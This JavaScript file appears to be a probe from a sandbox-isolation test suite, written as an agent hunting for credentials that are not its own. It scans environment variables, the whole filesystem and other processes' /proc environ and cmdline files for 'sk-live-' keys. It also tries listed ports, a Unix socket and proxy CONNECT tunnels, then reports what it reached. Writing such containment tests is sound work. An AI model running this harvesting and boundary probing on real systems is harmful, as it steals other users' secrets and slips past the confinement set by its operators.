/**
 * An agent that looks for credentials that are not its own, in its environment, its files, the machine's processes and
 * the network, tries the doors that it knows of, and says in one line of JSON what it found and which doors opened.
 *
 *   node attacks/support/explorer.mjs <JSON of {paths, doors, places, socket}>
 */
import { readdirSync, readFileSync, statSync } from "node:fs";
import { request } from "node:http";
import { connect } from "node:net";

/** Of credentials, wherever they stand. */
const SHAPE = /sk-live-[0-9a-f]{32}/g;
/** The system's own programs hold no credentials of this machine. */
const SYSTEM = new Set([
  "/bin",
  "/dev",
  "/lib",
  "/lib32",
  "/lib64",
  "/libx32",
  "/opt",
  "/proc",
  "/sbin",
  "/sys",
  "/usr",
]);
const MAX_FILE_BYTES = 65_536;
const PATIENCE_MS = 2_000;

const { paths, doors, places, socket } = JSON.parse(process.argv[2] ?? "{}");
/** @type {Set<string>} */
const found = new Set();

/** @param {string} where @param {string} text */
function look(where, text) {
  for (const [credential] of text.matchAll(SHAPE)) found.add(`${where}: ${credential}`);
}

/** @param {string} path */
function lookAt(path) {
  try {
    if (statSync(path).size <= MAX_FILE_BYTES) look(path, readFileSync(path, "latin1"));
  } catch {
    // What cannot be read holds nothing for us.
  }
}

/** @param {string} directory */
function walk(directory) {
  /** @type {import("node:fs").Dirent[]} */
  let entries = [];
  try {
    entries = readdirSync(directory, { withFileTypes: true });
  } catch {
    return;
  }
  for (const entry of entries) {
    const path = directory === "/" ? `/${entry.name}` : `${directory}/${entry.name}`;
    if (SYSTEM.has(path)) continue;
    if (entry.isDirectory()) walk(path);
    else if (entry.isFile()) lookAt(path);
  }
}

function lookAtProcesses() {
  for (const pid of readdirSync("/proc").filter((name) => /^[0-9]+$/.test(name)))
    for (const file of ["environ", "cmdline"]) {
      try {
        look(`/proc/${pid}/${file}`, readFileSync(`/proc/${pid}/${file}`, "latin1"));
      } catch {
        // Another account's.
      }
    }
}

/** @param {import("node:net").NetConnectOpts} where @returns {Promise<boolean>} whether anybody answered */
function opens(where) {
  return new Promise((resolve) => {
    const socket = connect(where);
    const timer = setTimeout(() => socket.destroy(), PATIENCE_MS);
    socket.on("data", (part) => look("the network", part.toString("latin1")));
    socket.once("connect", () => socket.write("GET / HTTP/1.0\r\n\r\n"));
    socket.once("data", () => resolve(true));
    socket.once("error", () => resolve(false));
    socket.once("close", () => {
      clearTimeout(timer);
      resolve(false);
    });
  });
}

/** @param {string} place @returns {Promise<number>} what the proxy of the environment answers; 0 without one */
function tunnel(place) {
  const proxy = URL.parse(process.env.HTTPS_PROXY ?? "");
  return new Promise((resolve) => {
    if (proxy === null) return resolve(0);
    const outgoing = request({ host: proxy.hostname, port: proxy.port, method: "CONNECT", path: place });
    outgoing.on("connect", ({ statusCode = 0 }, far) => {
      far.on("error", () => undefined).destroy();
      resolve(statusCode);
    });
    outgoing.on("error", () => resolve(0));
    outgoing.end();
  });
}

look("the environment", JSON.stringify(process.env));
walk("/");
for (const path of paths) lookAt(path);
lookAtProcesses();
const [, ...opened] = await Promise.all([undefined, ...doors.map(opens), opens({ path: socket })]);
/** @type {Record<string, number>} */
const tunnels = {};
for (const place of places) tunnels[place] = await tunnel(place);
console.log(
  JSON.stringify({
    ready: true,
    found: [...found],
    opened,
    tunnels,
    identity: process.env.SPIFFE_ENDPOINT_SOCKET !== undefined,
    note: readFileSync("note.txt", "utf8"),
  }),
);
